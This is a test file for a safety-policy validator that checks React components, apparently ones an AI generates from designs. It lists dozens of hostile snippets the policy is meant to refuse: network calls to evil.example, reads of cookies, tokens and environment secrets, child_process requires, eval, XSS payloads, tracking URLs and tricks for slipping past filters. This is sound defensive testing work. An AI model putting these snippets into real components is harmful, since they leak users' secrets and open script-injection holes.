// The safety policy: the corpus (every hostile component refused with its rule, every ordinary one accepted), the
// historical cases with their lines, the limits, the style-module option and the rule the refine round is told.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { isUi2CodeError } from '../src/errors.js';
import { refinePrompt } from '../src/generate/prompt.js';
import { assertPolicy, checkPolicy } from '../src/validate/policy.js';
import { HOSTILE, LEAK } from './policy-corpus/hostile.js';
import { ORDINARY } from './policy-corpus/ordinary.js';
import { fixturesDir } from './support/paths.js';

const wrap = (body: string, jsx = '<div />') => `import React from 'react';\n\nexport default function Evil() {\n  ${body}\n  return ${jsx};\n}\n`;

const MALICIOUS: Array<[rule: string, line: number, code: string]> = [
  ['imports-only-react', 1, "import fs from 'fs';\nexport default function A() { return <div />; }"],
  ['imports-only-react', 1, "import x from 'https://evil.example/x.js';\nexport default function A() { return <div />; }"],
  ['no-dynamic-import', 4, wrap("import('https://evil.example/x.js');")],
  ['no-require', 4, wrap("const cp = require('child_process');")],
  ['no-import-meta', 4, wrap('const u = import.meta.url;')],
  ['no-process', 4, wrap('const k = process.env.SECRET;')],
  ['no-eval', 4, wrap("eval('alert(1)');")],
  ['no-eval', 4, wrap("const f = new Function('return 1');")],
  ['no-eval', 4, wrap("setTimeout('alert(1)', 10);")],
  ['no-network', 4, wrap("fetch('https://evil.example');")],
  ['no-network', 4, wrap("const x = new XMLHttpRequest();")],
  ['no-network', 4, wrap("const ws = new WebSocket('wss://evil.example');")],
  ['no-network', 4, wrap("const es = new EventSource('/events');")],
  ['no-dom-access', 4, wrap("const b = (0, Math).sendBeacon;")],
  ['no-storage', 4, wrap("const t = localStorage.getItem('token');")],
  ['no-storage', 4, wrap("const s = sessionStorage.length;")],
  ['no-storage', 4, wrap('const db = indexedDB.open("x");')],
  ['no-globals', 4, wrap('const c = document.cookie;')],
  ['no-globals', 4, wrap('window.location.href = "/x";')],
  ['no-globals', 4, wrap('const g = globalThis;')],
  ['allowed-globals', 4, wrap('const v = someUnknownGlobal + 1;')],
  ['no-prototype-access', 4, wrap("const k = 'cons' + 'tructor'; const f = ({} as any)[k + ''];")],
  ['no-prototype-access', 4, wrap('const p = ({}).constructor;')],
  ['no-prototype-access', 4, wrap('const p = ({} as any).__proto__;')],
  ['no-prototype-access', 4, wrap("const p = Object['prototype'];")],
  ['no-dangerous-html', 6, wrap('', '<div\n    dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }}\n  />')],
  ['no-dangerous-html', 6, wrap('', '<iframe\n    srcDoc="<script>alert(1)</script>"\n  />')],
  ['no-dangerous-elements', 5, wrap('', '<script>{"alert(1)"}</script>')],
  ['no-dangerous-elements', 5, wrap('', '<iframe src="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<object data="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<embed src="/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<base href="/" />')],
  ['no-dangerous-elements', 5, wrap('', '<meta httpEquiv="refresh" content="0;url=/x" />')],
  ['no-dangerous-elements', 5, wrap('', '<link rel="stylesheet" href="/x.css" />')],
  ['imports-only-react', 4, wrap("const s = React.createElement('script', null, 'alert(1)');")],
  ['no-javascript-urls', 5, wrap('', '<a href="javascript:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href=" JaVaScRiPt:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href="java\tscript:alert(1)">x</a>')],
  ['no-javascript-urls', 5, wrap('', '<a href="&#106;avascript:alert(1)">x</a>')],
  ['no-external-urls', 5, wrap('', '<img src="https://evil.example/track.png" alt="" />')],
  ['no-external-urls', 5, wrap('', '<img src="//evil.example/track.png" alt="" />')],
  ['no-external-urls', 5, wrap('', '<img srcSet="/a.png 1x, http://evil.example/b.png 2x" alt="" />')],
  ['no-external-urls', 5, wrap('', '<a href="http://evil.example">x</a>')],
  ['no-external-urls', 5, wrap('', '<div style={{ backgroundImage: "url(https://evil.example/bg.png)" }} />')],
  ['no-external-urls', 5, wrap('', '<img src="data:text/html;base64,PHNjcmlwdD4=" alt="" />')],
  // Ways around a naive policy: shadowing, ambient declarations, reflection, spreads, escapes, dynamic styles.
  ['no-network', 4, wrap("const f = (Image: number) => Image; const i = new Image();")],
  ['no-network', 4, wrap("{ const Worker = 1; } const w = new Worker('/w.js');")],
  ['module-level', 1, "declare const Image: any;\nexport default function A() { return <div />; }"],
  ['module-level', 1, "enum E { A = (globalThis as any).x }\nexport default function A() { return <div />; }"],
  ['no-prototype-access', 4, wrap("const d = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => 0), 'x');")],
  ['jsx-spread', 5, wrap("const p = Object.fromEntries([['src', 'x']]);", '<img {...p} alt="" />')],
  ['no-dangerous-html', 4, wrap("const e = React.createElement('div', { dangerouslySetInnerHTML: { __html: '<b>' } });")],
  ['no-external-urls', 5, wrap('', "<img {...{ src: 'https://evil.example/a.png' }} alt=\"\" />")],
  ['no-external-urls', 4, wrap("const e = React.createElement('img', { src: 'https://evil.example/a.png' });")],
  ['no-member-assignment', 4, wrap("const o: any = {}; o.src = 'https://evil.example/a.png';")],
  ['no-external-urls', 5, wrap("const h = 'https:';", '<img src={`${h}//evil.example/a.png`} alt="" />')],
  ['no-external-urls', 5, wrap('', "<div style={{ backgroundImage: 'u\\\\72 l(https://evil.example/a.png)' }} />")],
  ['no-external-urls', 5, wrap('', "<div style={{ backgroundImage: 'image-set(\"https://evil.example/a.png\" 1x)' }} />")],
  ['no-external-urls', 5, wrap("const u = ['ur', 'l(https://evil.example/a)'].join('');", '<div style={{ backgroundImage: u }} />')],
  ['no-external-urls', 5, wrap("const u = 'x';", "<div style={{ background: 'url(' + u + ')' }} />")],
  ['no-network', 5, wrap('', '<Worker />')],
  ['no-globals', 5, wrap('', '<window.Foo />')],
  ['no-dangerous-elements', 5, wrap('', '<svg><animate attributeName="href" to="javascript:alert(1)" /></svg>')],
  ['no-javascript-urls', 5, wrap('', '<svg><set attributeName="href" to="&#x6A;avascript:alert(1)" /></svg>')],
  ['imports-only-react', 4, wrap("const p = Object.fromEntries([['src', 'x']]); const e = React.createElement('img', p);")],
  ['imports-only-react', 4, wrap("const p = JSON.parse('{}'); const e = React.cloneElement(<img alt=\"\" />, p);")],
  ['no-require', 1, "import fs = require('fs');\nexport default function A() { return <div />; }"],
  ['default-export-component', 1, 'export const A = () => <div />;'],
  ['default-export-component', 1, 'export default 42;'],
  ['syntax', 1, 'export default function ('],
];

describe('safety policy: the corpus', () => {
  it('has at least 100 hostile and 40 ordinary components', () => {
    assert.ok(HOSTILE.length >= 100, String(HOSTILE.length));
    assert.ok(ORDINARY.length >= 40, String(ORDINARY.length));
  });
  for (const h of HOSTILE) {
    it(`refuses ${h.name} (${h.rule})`, () => {
      const code = h.code.replaceAll(LEAK, 'http://127.0.0.1:9/leak');
      const violations = checkPolicy(code, { styleModule: h.styleModule });
      const hit = violations.find((v) => v.rule === h.rule);
      assert.ok(hit, `expected ${h.rule}, got ${JSON.stringify(violations)}`);
      assert.ok(hit.line >= 1 && hit.line <= code.split('\n').length, `line ${hit.line}`);
      assert.throws(() => assertPolicy(code, 'designs/evil.png', { styleModule: h.styleModule }), (e: unknown) => isUi2CodeError(e, 'POLICY') && e.message.includes(`rule ${violations[0].rule} at line ${violations[0].line}`) && e.message.includes('designs/evil.png'));
    });
  }
  for (const o of ORDINARY) {
    it(`accepts ${o.name}`, () => assert.deepEqual(checkPolicy(o.code, { styleModule: o.styleModule?.path }), []));
  }
});

describe('safety policy: rules and lines', () => {
  for (const [rule, line, code] of MALICIOUS) {
    it(`refuses ${rule}: ${code.split('\n').find((l) => l.includes('(') || l.includes('<') || l.includes('import'))?.trim().slice(0, 60)}`, () => {
      const violations = checkPolicy(code);
      const hit = violations.find((v) => v.rule === rule);
      assert.ok(hit, `expected ${rule}, got ${JSON.stringify(violations)}`);
      assert.equal(hit.line, line);
    });
  }

  it('caps the size and the node count', () => {
    assert.equal(checkPolicy(wrap(`const s = "${'x'.repeat(210_000)}";`))[0].rule, 'max-size');
    assert.equal(checkPolicy(wrap(`const a = [${'1,'.repeat(60_000)}];`))[0].rule, 'max-nodes');
  });

  it('allows the style module only when the caller names it, and only that one', () => {
    const code = "import React from 'react';\nimport styles from './Card.module.css';\nexport default function Card() { return <div className={styles.card} />; }\n";
    assert.deepEqual(checkPolicy(code, { styleModule: './Card.module.css' }), []);
    assert.equal(checkPolicy(code)[0].rule, 'imports-only-react');
    assert.equal(checkPolicy(code, { styleModule: './Other.module.css' })[0].rule, 'imports-only-react');
    assert.equal(checkPolicy(code.replace("import styles", "import * as styles"), { styleModule: './Card.module.css' })[0].rule, 'imports-only-react');
  });

  it('accepts the engine fixture and memo components', () => {
    assert.deepEqual(checkPolicy(fs.readFileSync(path.join(fixturesDir, 'engine/Card.tsx'), 'utf8')), []);
    assert.deepEqual(checkPolicy("import React from 'react';\nconst Card = () => <p>x</p>;\nexport default React.memo(Card);\n"), []);
  });

  it('tells the model which rule its previous answer broke', () => {
    const scores = { score: 0.5, mismatch: 0.1, fgMismatch: 0.2, width: 10, height: 10, renderedWidth: 10, renderedHeight: 10 } as Parameters<typeof refinePrompt>[0]['scores'];
    const prompt = refinePrompt({ code: 'x', scores, round: 2, hasDiff: false, refused: ['rule refs at line 4: ref must be a useRef() object (no callback refs)'] });
    assert.match(prompt, /refused by the safety policy/);
    assert.match(prompt, /rule refs at line 4/);
    assert.doesNotMatch(refinePrompt({ code: 'x', scores, round: 2, hasDiff: false }), /safety policy/);
  });
});
